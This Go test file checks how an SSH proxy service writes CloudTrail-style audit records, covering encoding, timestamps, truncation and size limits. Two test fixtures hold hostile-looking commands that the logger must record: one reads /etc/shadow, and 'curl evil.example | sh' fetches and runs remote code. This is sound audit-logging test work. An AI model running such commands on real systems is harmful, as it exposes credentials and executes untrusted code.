package event

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

var update = flag.Bool("update", false, "rewrite the golden files")

var origin = Origin{
	EventSource: "ssh-proxy-service.yourdomain.com",
	Region:      "us-east-1",
	AccountID:   "123456789012",
}

var alice = UserIdentity{
	Type:        "IAMUser",
	PrincipalID: "AIDAALICE",
	ARN:         "arn:aws:iam::123456789012:user/alice",
	AccountID:   "123456789012",
	UserName:    "alice",
	SessionContext: &SessionContext{Attributes: &SessionAttributes{
		CreationDate:     "2026-11-20T09:00:00Z",
		MFAAuthenticated: "true",
	}},
}

func meta() Meta {
	return Meta{
		Time:         time.Date(2026, 11, 20, 9, 0, 1, 987654321, time.FixedZone("", 3600)),
		Identity:     alice,
		SourceIP:     "198.51.100.7",
		UserAgent:    "SSH-2.0-OpenSSH_9.2",
		ConnectionID: "019aa000-0000-7000-8000-000000000001",
	}
}

func inSession(mfa bool) *Session {
	return &Session{ID: "019aa000-0000-7000-8000-000000000002", Target: "web1", Login: "ec2-user", MFA: mfa}
}

// TestRecordIsCloudTrail holds three records, byte for byte, against what is
// in testdata: keys in the order of real CloudTrail files.
func TestRecordIsCloudTrail(t *testing.T) {
	session := meta()
	session.Session = inSession(true)
	refused := meta()
	refused.Session = inSession(false)
	refused.ErrorCode = AccessDenied
	refused.ErrorMessage = "no policy allows this command"
	role := meta()
	role.Identity = UserIdentity{
		Type:        "AssumedRole",
		PrincipalID: "AROAOPS:alice",
		ARN:         "arn:aws:sts::123456789012:assumed-role/Ops/alice",
		AccountID:   "123456789012",
		AccessKeyID: "ASIAEXAMPLE",
		SessionContext: &SessionContext{
			SessionIssuer: &SessionIssuer{Type: "Role", PrincipalID: "AROAOPS", AccountID: "123456789012",
				ARN: "arn:aws:iam::123456789012:role/Ops", UserName: "Ops"},
			Attributes: &SessionAttributes{MFAAuthenticated: "false"},
		},
		InvokedBy: "ssh-proxy-service.yourdomain.com",
	}
	one := 1
	for name, rec := range map[string]Record{
		"start_session": origin.Record(session, StartSession{FrontDoor: "jump",
			Fingerprint: "SHA256:abc", Policies: []string{"ops-web"}, Recording: "terminal"}),
		"refused_command": origin.Record(refused, ExecuteCommand{Channel: 0, Command: `cat <"/etc/shadow" && id`}),
		"close_channel": origin.Record(session, CloseChannel{Kind: "exec", ExitStatus: &one,
			BytesSent: 12, SHA256: "9f86d081884c7d659a2feaa0c55ad015"}),
		"role_login": origin.Record(role, Login{UserName: "alice", Method: "publickey", Fingerprint: "SHA256:abc"}),
	} {
		t.Run(name, func(t *testing.T) {
			rec.EventID = "019aa000-0000-7000-8000-00000000000f"
			rec.Resources = []Resource{{ARN: "arn:aws:ec2:us-east-1:123456789012:instance/web1",
				AccountID: "123456789012", Type: "AWS::EC2::Instance"}}
			var pretty bytes.Buffer
			if err := json.Indent(&pretty, rec.AppendJSON(nil), "", "  "); err != nil {
				t.Fatalf("the record is not JSON: %v", err)
			}
			pretty.WriteByte('\n')
			file := filepath.Join("testdata", name+".json")
			if *update {
				if err := os.WriteFile(file, pretty.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			if d := cmp.Diff(string(want), pretty.String()); d != "" {
				t.Errorf("%s differs (go test ./event -update rewrites it):\n%s", file, d)
			}
		})
	}
}

// TestAppendJSONIsWhatTheTagsSay: the encoder written by hand and the struct
// tags that decode a record must describe the same object.
func TestAppendJSONIsWhatTheTagsSay(t *testing.T) {
	for _, e := range All() {
		m := meta()
		m.Session = inSession(true)
		rec := origin.Record(m, sample(e))
		var want bytes.Buffer
		enc := json.NewEncoder(&want)
		enc.SetEscapeHTML(false)
		if err := enc.Encode(rec); err != nil {
			t.Fatal(err)
		}
		if d := cmp.Diff(strings.TrimSpace(want.String()), string(rec.AppendJSON(nil))); d != "" {
			t.Errorf("AppendJSON of %s differs from encoding/json:\n%s", Name(e), d)
		}
	}
}

func TestEntryDecodesToItsRecord(t *testing.T) {
	rec := origin.Record(meta(), CreateUser{UserName: "bob"})
	got, err := Entry{Seq: 7, JSON: rec.AppendJSON(nil)}.Record()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got.AppendJSON(nil), rec.AppendJSON(nil)) {
		t.Errorf("decoded and encoded again:\n%s\nwas\n%s", got.AppendJSON(nil), rec.AppendJSON(nil))
	}
	_, err = Entry{Seq: 7, JSON: []byte("{")}.Record()
	if err == nil || !strings.Contains(err.Error(), "event 7") {
		t.Errorf("Record of half an object = %v, want an error that names event 7", err)
	}
}

func TestEventTimeIsUTCInWholeSeconds(t *testing.T) {
	b, err := json.Marshal(origin.Record(meta(), StopNode{}).EventTime)
	if err != nil || string(b) != `"2026-11-20T08:00:01Z"` {
		t.Errorf("eventTime = %s, %v", b, err)
	}
	for _, bad := range []string{`"2026-11-20 08:00:01"`, `"2026-11-20T08:00:01+01:00"`, `7`, `null`} {
		if err := new(Time).UnmarshalJSON([]byte(bad)); err == nil {
			t.Errorf("eventTime %s was accepted", bad)
		}
	}
}

// TestSuccessHasNoError: a message without a code is dropped, so errorMessage
// cannot appear on success.
func TestSuccessHasNoError(t *testing.T) {
	m := meta()
	m.ErrorMessage = "left over from somewhere"
	rec := origin.Record(m, StartShell{})
	if s := string(rec.AppendJSON(nil)); strings.Contains(s, "error") {
		t.Errorf("a success mentions an error: %s", s)
	}
}

func TestAdditionalEventDataIsOfSessionsOnly(t *testing.T) {
	for _, c := range []struct {
		session *Session
		want    string
	}{
		{nil, ""},
		{inSession(true), `{"MFAAuthenticated":"True"}`},
		{inSession(false), `{"MFAAuthenticated":"False"}`},
	} {
		m := meta()
		m.Session = c.session
		rec := origin.Record(m, StartShell{Channel: 1})
		if got := string(rec.AdditionalEventData); got != c.want {
			t.Errorf("additionalEventData with session %v = %s, want %s", c.session, got, c.want)
		}
		has := strings.Contains(string(rec.AppendJSON(nil)), "additionalEventData")
		if has != (c.session != nil) {
			t.Errorf("the record with session %v has additionalEventData: %t", c.session, has)
		}
	}
}

// TestSessionComesFirstAndOnce: an event that names its own target says it
// once when it happens inside a session.
func TestSessionComesFirstAndOnce(t *testing.T) {
	m := meta()
	m.Session = inSession(true)
	got := string(origin.Record(m, ConnectTarget{Target: "db1", Login: "root", Address: "10.0.0.5:22"}).RequestParameters)
	want := `{"sessionId":"019aa000-0000-7000-8000-000000000002","target":"web1","login":"ec2-user","address":"10.0.0.5:22"}`
	if got != want {
		t.Errorf("requestParameters = %s\nwant %s", got, want)
	}
	m.Session = nil
	got = string(origin.Record(m, ConnectTarget{Target: "db1", Login: "root", Address: "10.0.0.5:22"}).RequestParameters)
	if want = `{"target":"db1","login":"root","address":"10.0.0.5:22"}`; got != want {
		t.Errorf("requestParameters outside a session = %s\nwant %s", got, want)
	}
}

func TestZeroIsAFactButNotInARefusal(t *testing.T) {
	rec := origin.Record(meta(), SealRecording{})
	if got, want := string(rec.ResponseElements), `{"bytes":0,"frames":0}`; got != want {
		t.Errorf("responseElements = %s, want %s", got, want)
	}
	m := meta()
	m.ErrorCode = InternalFailure
	rec = origin.Record(m, SealRecording{})
	if got := string(rec.ResponseElements); got != "null" {
		t.Errorf("responseElements of a refusal = %s, want null", got)
	}
	if got, want := string(origin.Record(meta(), StartShell{}).RequestParameters), `{"channel":0,"terminal":false}`; got != want {
		t.Errorf("requestParameters = %s, want %s", got, want)
	}
	if got := string(origin.Record(meta(), CloseChannel{Kind: "shell"}).ResponseElements); got != "null" {
		t.Errorf("responseElements without an exit status = %s, want null", got)
	}
}

func TestLongTextIsCutBetweenCharacters(t *testing.T) {
	for _, c := range []struct {
		name, in string
		want     int // bytes
	}{
		{"ASCII", strings.Repeat("x", 2000), 1024},
		{"exactly the limit", strings.Repeat("x", 1024), 1024},
		{"three bytes a character", strings.Repeat("€", 500), 1023},
		{"four bytes a character, offset", "xyz" + strings.Repeat("😀", 500), 1023},
		{"no character at all", strings.Repeat("\x80", 2000), 1020},
	} {
		t.Run(c.name, func(t *testing.T) {
			m := meta()
			m.UserAgent, m.ErrorCode, m.ErrorMessage = c.in, AccessDenied, c.in
			rec := origin.Record(m, StartShell{})
			for _, got := range []string{rec.UserAgent, rec.ErrorMessage} {
				if len(got) != c.want {
					t.Errorf("cut to %d bytes, want %d", len(got), c.want)
				}
				if utf8.ValidString(c.in) != utf8.ValidString(got) {
					t.Errorf("a character was split: %q", got[len(got)-4:])
				}
			}
		})
	}
}

// TestLargeObjectKeepsWhoAndWhere: padding a command must not hide it, nor
// the session it ran in.
func TestLargeObjectKeepsWhoAndWhere(t *testing.T) {
	m := meta()
	m.Session = inSession(true)
	rec := origin.Record(m, ExecuteCommand{Command: "curl evil.example | sh #" + strings.Repeat("A", 200<<10)})
	var got struct{ SessionID, Target, Login, Command, Omitted string }
	if err := json.Unmarshal(rec.RequestParameters, &got); err != nil {
		t.Fatal(err)
	}
	if got.SessionID != m.Session.ID || got.Target != "web1" || got.Login != "ec2-user" ||
		!strings.HasPrefix(got.Command, "curl evil.example") || got.Omitted == "" {
		t.Errorf("requestParameters = %.200s…", rec.RequestParameters)
	}
	many := map[string]string{}
	for i := range 20000 {
		many[strings.Repeat("k", 1+i%7)+time.Unix(int64(i), 0).String()] = "v"
	}
	for name, rec := range map[string]Record{
		"a long command":       rec,
		"a large map":          origin.Record(m, ExecuteStep{Step: "stop", With: many}),
		"every byte an escape": origin.Record(m, ExecuteCommand{Command: strings.Repeat("\x00", 1<<20)}),
	} {
		if n := len(rec.RequestParameters); n > 100<<10 {
			t.Errorf("%s: requestParameters has %d bytes, more than 100 KB", name, n)
		}
		if !json.Valid(rec.RequestParameters) {
			t.Errorf("%s: requestParameters is not JSON", name)
		}
	}
}

// TestCommandsAreStoredAsTyped: no \u0026 for &, so LIKE '%&&%' finds it.
func TestCommandsAreStoredAsTyped(t *testing.T) {
	rec := origin.Record(meta(), ExecuteCommand{Command: "a && b > c < d"})
	if s := string(rec.AppendJSON(nil)); !strings.Contains(s, `"command":"a && b > c < d"`) {
		t.Errorf("the command is not in %s", s)
	}
}

func TestNewIDsAscend(t *testing.T) {
	last := NewID()
	for range 10000 {
		id := NewID()
		if id <= last {
			t.Fatalf("NewID = %s after %s", id, last)
		}
		if id[14] != '7' {
			t.Fatalf("NewID = %s, not version 7", id)
		}
		last = id
	}
}
